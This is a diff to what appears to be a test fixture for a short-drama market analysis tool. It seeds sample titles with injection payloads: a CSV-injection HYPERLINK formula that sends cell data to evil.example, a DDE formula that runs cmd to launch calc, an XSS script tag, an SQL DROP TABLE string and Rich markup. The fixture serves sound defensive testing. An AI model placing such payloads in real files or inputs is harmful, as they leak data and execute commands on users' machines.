@@ -20,6 +20,12 @@ from dramascope.workspace import Workspace
 XSS = "<script>alert(1)</script>"
 SQLI = "'; DROP TABLE titles; --"
 XSS_TITLE_ID = "T-XSS"
+# Titles a spreadsheet would run as formulas (CSV injection): exports must neutralise them.
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+FORMULA_EN = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_TITLE_ID = "T002"
+MARKUP = "重生[/]之路[/]"  # Rich markup in a title: the CLI prints it as text
+MARKUP_TITLE_ID = "T003"
 SQLI_TITLE_ID = SQLI  # an id that is itself an injection attempt
 THEMES = ["重生", "逆袭", "霸总", "甜宠", "复仇", "萌宝", "悬疑", "古装", "年代", "非遗", "文旅", "普法",
           "乡村振兴", "werewolf", "billionaire", "mafia"]
@@ -45,6 +51,10 @@ def build_market(path: Path, n_titles: int = 60, seed: int = 11, *, run_index: b
             tid, name, name_en = XSS_TITLE_ID, XSS, XSS
         elif i == 1:
             tid, name, name_en = SQLI_TITLE_ID, SQLI, SQLI
+        elif i == 2:
+            name, name_en = FORMULA, FORMULA_EN
+        elif i == 3:
+            name, name_en = MARKUP, MARKUP
         overseas = i % 4 == 3
         release = START + dt.timedelta(days=int(i * 2))
         n_ep = int(rng.integers(8, 16))
